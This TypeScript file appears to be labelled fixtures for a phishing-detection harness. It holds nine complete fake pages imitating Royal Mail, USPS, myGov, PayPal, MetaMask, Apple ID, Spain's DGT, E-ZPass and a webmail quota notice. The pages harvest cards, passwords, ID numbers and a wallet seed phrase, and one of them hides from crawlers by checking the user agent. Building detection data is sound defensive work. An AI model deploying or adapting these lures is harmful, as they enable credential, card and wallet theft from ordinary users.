import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, pngRoute, jsRoute, jsonRoute } from '../parts/p-kit.js';

export const entries: Entry[] = [
{
  id: 'p-phish-delivery-royalmail-fee-uk',
  label: 'phishing',
  kind: 'delivery-fee',
  url: 'https://royalmail.redelivery-uk-parcel.com/track/?id=RM48120775GB',
  body: doc({
    lang: 'en-GB',
    title: 'Royal Mail – Reschedule your delivery',
    css: '.h{background:#da202a;color:#fff;padding:16px 24px;font-weight:700;font-size:22px}.c{max-width:560px;margin:24px auto;padding:0 18px}input{width:100%;padding:11px;margin:4px 0 10px;border:1px solid #999;border-radius:3px}button{background:#da202a;color:#fff;border:0;padding:13px;width:100%;font-size:16px;border-radius:3px}',
    body: `<div class="h">Royal Mail</div>
<div class="c"><h2>We missed you!</h2><p>Your parcel <b>RM48120775GB</b> could not be delivered because there was no one available to sign. A redelivery fee of <b>£1.45</b> is due before we can rebook.</p>
<form action="/track/billing.php" method="post">
<h3>Your details</h3><input name="fullname" placeholder="Full name"><input name="dob" placeholder="Date of birth (DD/MM/YYYY)"><input name="addr" placeholder="Address line 1"><input name="pc" placeholder="Postcode"><input name="mob" placeholder="Mobile number">
<h3>Payment – £1.45</h3><input name="cc" placeholder="Card number" inputmode="numeric"><div style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="Security code"></div>
<button>Pay £1.45 and reschedule</button></form>
<p style="font-size:12px;color:#666">© Royal Mail Group Ltd 2026. All rights reserved.</p></div>`,
  }),
},
{
  id: 'p-phish-delivery-usps-address-cloaked',
  label: 'phishing',
  kind: 'delivery-fee',
  url: 'https://usps.packages-redeliver.top/us',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>USPS</title><meta name="viewport" content="width=device-width,initial-scale=1"></head><body>
<script>
(function(){
  var ua=navigator.userAgent||'';var bot=/bot|crawl|spider|headless|lighthouse|curl|python/i.test(ua);
  if(bot){document.title='404 Not Found';document.body.innerHTML='<h1>Not Found</h1><p>The requested URL was not found on this server.</p>';return}
  fetch('/us/gate?w='+screen.width+'&tz='+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)).then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()});
})();
</script></body></html>`,
  routes: {
    'usps.packages-redeliver.top/us/gate': htmlRoute(`<!DOCTYPE html><html lang="en-US"><head><meta charset="utf-8"><title>USPS.com® - USPS Tracking® Results</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:Helvetica,Arial;background:#fff}.h{background:#333366;color:#fff;padding:14px 20px;font-weight:700}.c{max-width:520px;margin:18px auto;padding:0 16px}input{width:100%;padding:10px;margin:4px 0 10px;border:1px solid #999;box-sizing:border-box}button{background:#333366;color:#fff;border:0;padding:12px;width:100%}</style></head>
<body><div class="h">USPS</div><div class="c"><h3>Tracking Number: US9514901185421</h3><p style="color:#c00">Status: Delivery attempt failed – incomplete address information</p>
<p>The package arrived at the warehouse but could not be delivered due to incomplete address information. Please confirm your address within 12 hours. A $0.30 service charge applies.</p>
<form method="post" action="/us/submit"><input name="name" placeholder="Full Name"><input name="address" placeholder="Street Address"><input name="city" placeholder="City"><input name="state" placeholder="State"><input name="zip" placeholder="ZIP Code"><input name="phone" placeholder="Phone"><input name="email" placeholder="Email"><input name="card" placeholder="Card Number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Continue</button></form>
<p style="font-size:11px;color:#777">Copyright © 2026 USPS. All Rights Reserved.</p></div></body></html>`),
  },
},
{
  id: 'p-phish-tax-ato-mygov-refund-au',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://my-gov-au.refund-ato.services/LoginServices/refund',
  body: doc({
    lang: 'en-AU',
    title: 'myGov - Sign in',
    css: 'body{background:#f5f5f5}.h{background:#313131;color:#fff;padding:16px 24px;font-size:22px}.c{max-width:460px;margin:30px auto;background:#fff;padding:28px;border-top:6px solid #000}input{width:100%;padding:11px;margin:4px 0 12px;border:1px solid #888}button{background:#006fb0;color:#fff;border:0;padding:12px 26px}',
    body: `<div class="h">my<b>Gov</b></div>
<div class="c"><div style="background:#e8f4fb;padding:10px;font-size:14px;margin-bottom:12px">The Australian Taxation Office has calculated a tax refund of <b>$712.43</b> for the 2025–26 financial year. Sign in to myGov to claim it before 30 November.</div>
<h2>Sign in with myGov</h2>
<form action="/LoginServices/auth" method="post"><label>Username or email</label><input name="user"><label>Password</label><input type="password" name="pass"><button>Sign in</button></form>
<p style="font-size:13px"><a href="#">Forgot username</a> · <a href="#">Forgot password</a> · <a href="#">Create an account</a></p></div>
<p style="text-align:center;font-size:12px;color:#666">Accessibility · Privacy · Terms of use · © Commonwealth of Australia</p>`,
  }),
},
{
  id: 'p-phish-webmail-quota-crude',
  label: 'phishing',
  kind: 'webmail-login',
  url: 'https://mailbox-upgrade-portal.weebly-site.net/',
  body: `<html><head><title>Mailbox Quota</title></head><body bgcolor="#ffffff"><center>
<br><br><font face="arial" size="5" color="#cc0000"><b>Your mailbox is almost full.</b></font><br><br>
<table width="420" border="0" cellpadding="6" style="border:1px solid #ccc;font-family:arial;font-size:13px">
<tr><td colspan="2">Mailbox usage: <b>1.98 GB / 2 GB</b><div style="background:#eee;height:12px"><div style="background:#c00;width:99%;height:12px"></div></div></td></tr>
<tr><td colspan="2">You can not send or recieve new messages untill your mailbox is upgraded. Please verify your email account below to increase your quota to 50GB for free.</td></tr>
<form method="post" action="https://formsubmit-handler.xyz/f/mbx77">
<tr><td>Email Address:</td><td><input name="email" size="28"></td></tr>
<tr><td>Password:</td><td><input name="password" type="password" size="28"></td></tr>
<tr><td>Confirm Password:</td><td><input name="password2" type="password" size="28"></td></tr>
<tr><td></td><td><input type="submit" value="Upgrade Now"></td></tr></form>
</table><br><font face="arial" size="1" color="#888">Webmail Administrator &copy; 2026. All Rights Reserved.</font></center></body></html>`,
},
{
  id: 'p-phish-payapp-paypal-limited',
  label: 'phishing',
  kind: 'payment-app',
  url: 'https://paypal.com.resolution-center-case.com/signin?country.x=US&locale.x=en_US',
  body: doc({
    lang: 'en-US',
    title: 'Log in to your PayPal account',
    css: 'body{background:#fff}.c{max-width:460px;margin:40px auto;border:1px solid #eaeced;border-radius:12px;padding:36px 40px}input{width:100%;padding:14px;margin:6px 0;border:1px solid #9da3a6;border-radius:4px;font-size:16px}button{width:100%;background:#0070e0;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px;font-weight:700;margin-top:12px}',
    body: `<div class="c"><div style="text-align:center;font-size:28px;font-weight:800;color:#003087;font-style:italic">Pay<span style="color:#009cde">Pal</span></div>
<p style="background:#fff7e0;padding:10px;font-size:14px;border-radius:6px">Your account access has been limited. We noticed unusual activity and need you to confirm your information. Case ID: PP-007-391-552-884</p>
<form action="/signin/process" method="post"><input name="login_email" placeholder="Email or mobile number"><input name="login_password" type="password" placeholder="Password"><a href="#" style="font-size:14px;color:#0070e0">Forgot password?</a><button>Log In</button></form>
<div style="text-align:center;margin:18px 0;color:#6c7378">or</div><button style="background:#fff;color:#000;border:2px solid #000">Sign Up</button></div>
<p style="text-align:center;font-size:12px;color:#6c7378">Contact Us · Privacy · Legal · Worldwide</p>`,
  }),
},
{
  id: 'p-phish-wallet-metamask-seed-verify',
  label: 'phishing',
  kind: 'wallet-seed',
  url: 'https://metamask-wallet-sync.io/restore',
  body: doc({
    lang: 'en',
    title: 'MetaMask – Wallet Verification',
    css: 'body{background:#f2f4f6}.c{max-width:560px;margin:30px auto;background:#fff;border-radius:10px;padding:30px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:10px;border:1px solid #bbc0c5;border-radius:6px}button{width:100%;background:#037dd6;color:#fff;border:0;padding:14px;border-radius:24px;margin-top:16px;font-size:16px}',
    body: `<div class="c"><div style="text-align:center"><img src="/restore/fox.png" width="60" height="60"><h2>Wallet Verification Required</h2></div>
<p style="font-size:14px">Due to the recent security upgrade (EIP-7702 migration), all wallets must be re-verified. Unverified wallets will be temporarily suspended and assets may be lost. Enter your 12-word Secret Recovery Phrase to synchronise your wallet.</p>
<div class="g" id="g"></div>
<button onclick="sub()">Verify Wallet</button><p style="font-size:12px;color:#6a737d;text-align:center">MetaMask will never share your data. Encrypted end-to-end.</p></div>
<script>var g=document.getElementById('g');for(var i=1;i<=12;i++){var x=document.createElement('input');x.placeholder=i+'.';x.className='w';g.appendChild(x)}
function sub(){var w=[].map.call(document.querySelectorAll('.w'),function(e){return e.value.trim()}).join(' ');fetch('/restore/api/v1/sync',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w,ua:navigator.userAgent})}).then(function(){document.querySelector('.c').innerHTML='<h3>Verification in progress…</h3><p>This may take up to 24 hours.</p>'})}</script>`,
  }),
  routes: {
    'metamask-wallet-sync.io/restore/fox.png': pngRoute(246, 133, 27),
    'metamask-wallet-sync.io/restore/api/v1/sync': jsonRoute({ status: 'queued' }),
  },
},
{
  id: 'p-phish-appleid-locked-ja',
  label: 'phishing',
  kind: 'account-locked',
  url: 'https://appleid-apple-jp.support-lock.com/ja/signin',
  body: doc({
    lang: 'ja',
    title: 'Apple ID - サインイン',
    css: 'body{background:#fbfbfd;font-family:"Hiragino Sans","Meiryo",sans-serif}.c{max-width:480px;margin:50px auto;text-align:center}input{width:100%;padding:14px;border:1px solid #d2d2d7;border-radius:12px;margin:6px 0;font-size:16px}button{background:#0071e3;color:#fff;border:0;padding:12px 30px;border-radius:20px;font-size:16px;margin-top:10px}',
    body: `<div class="c"><div style="font-size:40px"></div><h1 style="font-weight:600">Apple ID</h1>
<p style="background:#fff2f2;color:#b00;padding:10px;border-radius:8px;font-size:14px">お客様のApple IDは、セキュリティ上の理由によりロックされています。ロックを解除するには、24時間以内にアカウント情報を確認してください。</p>
<form action="/ja/verify" method="post"><input name="appleId" placeholder="Apple ID（メールアドレス）"><input name="password" type="password" placeholder="パスワード"><button>続ける</button></form>
<p style="font-size:13px"><a href="#">Apple IDまたはパスワードをお忘れですか？</a></p>
<p style="font-size:12px;color:#86868b;margin-top:40px">Copyright © 2026 Apple Inc. All rights reserved. プライバシーポリシー | 利用規約</p></div>`,
  }),
},
{
  id: 'p-phish-gov-fine-dgt-es',
  label: 'phishing',
  kind: 'gov-fine',
  url: 'https://dgt-multas-pago.es-sede.com/notificacion/',
  body: doc({
    lang: 'es',
    title: 'DGT – Sede Electrónica – Pago de multas',
    css: '.h{background:#00457c;color:#fff;padding:14px 24px}.c{max-width:600px;margin:24px auto;padding:0 18px}.n{border:1px solid #ccd;padding:16px;background:#f8f9fc}input{width:100%;padding:10px;margin:4px 0 10px;border:1px solid #999}button{background:#00457c;color:#fff;border:0;padding:12px 30px}',
    body: `<div class="h"><b>Dirección General de Tráfico</b> · Sede Electrónica</div>
<div class="c"><div class="n"><h2>Notificación de sanción pendiente</h2><p>Expediente: <b>ES-2026-0917322</b><br>Infracción: exceso de velocidad (art. 48 RGC) – radar fijo A-6 km 21<br>Importe: <b>100,00 €</b> (50,00 € con reducción del 50% si paga antes de 3 días)</p>
<p style="color:#a00">Si no abona la multa en el plazo indicado, se procederá a la vía de apremio con un recargo del 20% y la retirada de 4 puntos.</p></div>
<h3>Pagar con tarjeta – 50,00 €</h3>
<form action="/notificacion/pago" method="post"><input name="nombre" placeholder="Nombre y apellidos"><input name="dni" placeholder="DNI/NIE"><input name="tarjeta" placeholder="Número de tarjeta"><input name="cad" placeholder="Caducidad MM/AA"><input name="cvv" placeholder="CVV"><button>Pagar ahora</button></form>
<p style="font-size:12px;color:#666">© Dirección General de Tráfico – Ministerio del Interior</p></div>`,
  }),
},
{
  id: 'p-phish-toll-unpaid-ezpass-us',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://ezpass-ny.tollbill-pay.com/pay',
  body: `<!DOCTYPE html><html lang="en-US"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>E-ZPass New York</title>
<style>body{margin:0;font-family:Arial;background:#eef2f5}.h{background:#6a1b9a;color:#fff;padding:12px 18px;font-weight:700}.c{max-width:480px;margin:16px auto;background:#fff;padding:20px;border-radius:6px}input{width:100%;padding:11px;margin:4px 0 10px;border:1px solid #aaa;box-sizing:border-box}button{width:100%;padding:12px;background:#6a1b9a;color:#fff;border:0}</style></head>
<body><div class="h">E-ZPass NY</div><div class="c"><h3>Outstanding toll balance: $4.15</h3><p>Our records show your vehicle has an unpaid toll. To avoid a late fee of $50.00 and possible suspension of your vehicle registration, pay by today.</p>
<div id="f"></div></div>
<script>var f=[['name','Full name'],['addr','Billing address'],['zip','ZIP'],['card','Card number'],['exp','Expiry (MM/YY)'],['cvv','CVV'],['phone','Mobile phone']];var d=document.getElementById('f');f.forEach(function(x){var i=document.createElement('input');i.name=x[0];i.placeholder=x[1];d.appendChild(i)});var b=document.createElement('button');b.textContent='Pay $4.15';b.onclick=function(){var o={};d.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});fetch('/pay/api/submit',{method:'POST',body:JSON.stringify(o)}).then(function(){d.innerHTML='<p>Please enter the verification code sent to your phone.</p><input placeholder="Code"><button>Verify</button>'})};d.appendChild(b)</script></body></html>`,
  routes: { 'ezpass-ny.tollbill-pay.com/pay/api/submit': jsonRoute({ next: 'otp' }) },
},
];
